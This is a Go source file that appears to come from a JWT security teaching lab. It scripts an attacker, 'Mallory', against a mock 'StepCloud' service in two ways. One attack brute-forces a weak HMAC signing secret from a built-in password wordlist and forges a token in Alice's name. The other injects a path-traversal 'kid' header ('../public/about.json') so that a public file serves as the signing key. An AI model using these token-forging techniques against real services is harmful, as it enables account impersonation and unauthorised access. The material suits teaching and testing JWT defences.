package walkthrough

import (
	"context"
	"encoding/base64"
	"net/http"
	"strings"

	"claimcheck/mockprovider/lab"
	"claimcheck/playground"
)

// What Mallory does with a pass: a token that StepCloud signs by itself, with a
// secret, and that she can get for herself.

// guesses are the beginning of a list of words such as anybody can write: names,
// habits, and what has to do with the product.
func guesses() []string {
	return strings.Fields(`
		secret secret1 password Passw0rd changeme letmein qwertz123 admin root test123 default topsecret
		stepcloud StepCloud stepcloud1 stepcloud123 stepcloud-secret stepcloud2024 stepcloud2025 stepcloud2026 stepcloud!
		steps steps123 step-by-step walking walk4ever onfoot marathon marathon42 runner running sneakers
		1000steps 5000steps 10000steps 10kaday fitness fittrack`)
}

// passSteps are the two steps that bring Mallory a pass of her own.
func passSteps() map[string]*action {
	return map[string]*action{
		"own-token": malloryOwnToken(),
		"pass-request": mallorySends("pass-request", "own-token", "/v1/pass", needs("own-token", "has no token for Mallory yet", func(_ context.Context, w *Walk) (*Draft, error) {
			d, err := bearer(w, "/v1/pass", carried(w.current("own-token"), HalfResponse, "access_token"))
			if err == nil {
				d.Method = http.MethodPost
			}
			return d, err
		})),
		"pass-response": {of: "pass-request", half: HalfResponse},
	}
}

// passAttack is an attack with a pass that Mallory made after a step.
func passAttack(actions map[string]*action, after string, forge func(w *Walk) string, memory func(w *Walk, name string) string) *script {
	actions["forge"] = &action{of: after, half: HalfMemory}
	actions["shared-request"] = mallorySends("shared-request", after, "/v1/shared", needs(after, "has not brought what Mallory needs", func(_ context.Context, w *Walk) (*Draft, error) {
		return bearer(w, "/v1/shared", forge(w))
	}))
	actions["shared-check"] = &action{of: "shared-request", half: HalfFindings}
	actions["shared-response"] = &action{of: "shared-request", half: HalfResponse}
	return &script{actions: actions, memory: func(w *Walk, name string) string {
		e := w.current(after)
		switch {
		case e == nil || !accepted(w, e):
			return ""
		case name == "forged pass":
			return forge(w)
		case memory != nil:
			return memory(w, name)
		}
		return ""
	}}
}

// passForAlice is Mallory's pass with Alice in her place, under this header.
func passForAlice(w *Walk, header string, secret []byte) string {
	parts := strings.Split(carried(w.current("pass-request"), HalfResponse, "pass"), ".")
	if len(parts) != 3 {
		return ""
	}
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return ""
	}
	pass, err := playground.Sign([]byte(header), inAlicesName(payload), secret, "HS256")
	if err != nil {
		return ""
	}
	return pass
}

// weakSecret is the attack weak-secret: Mallory tries words until one makes the
// signature of her own pass (RFC 8725 §2.2).
func weakSecret() *script {
	guess := func(w *Walk) string {
		p := playground.Decode(carried(w.current("pass-request"), HalfResponse, "pass"), true)
		for _, word := range guesses() {
			if playground.VerifySignature("HS256", p.SigningInput, p.Signature().Bytes, []byte(word)) == nil {
				return word
			}
		}
		return ""
	}
	forge := func(w *Walk) string {
		word := guess(w)
		if word == "" { // none fits, and she tries her luck with the first
			word = guesses()[0]
		}
		return passForAlice(w, `{"alg":"HS256","typ":"pass+jwt","kid":"pass-1"}`, []byte(word))
	}
	actions := passSteps()
	actions["guess"] = &action{of: "pass-request", half: HalfMemory}
	return passAttack(actions, "pass-request", forge, func(w *Walk, name string) string {
		if name == "secret" {
			return guess(w)
		}
		return ""
	})
}

// kidInjection is the attack kid-injection: the name of the key is a path to a file
// that Mallory has read (RFC 8725 §3.10).
func kidInjection() *script {
	actions := passSteps()
	actions["about"] = mallorySends("about", "pass-request", "/v1/about", needs("pass-request", "has no pass for Mallory yet", func(_ context.Context, w *Walk) (*Draft, error) {
		l := w.run.Lab()
		return get(l.Origin() + "/rs/" + l.ID() + "/" + lab.StepCloud + "/v1/about")
	}))
	return passAttack(actions, "about", func(w *Walk) string {
		return passForAlice(w, `{"alg":"HS256","typ":"pass+jwt","kid":"../public/about.json"}`, w.current("about").Response.Body)
	}, nil)
}
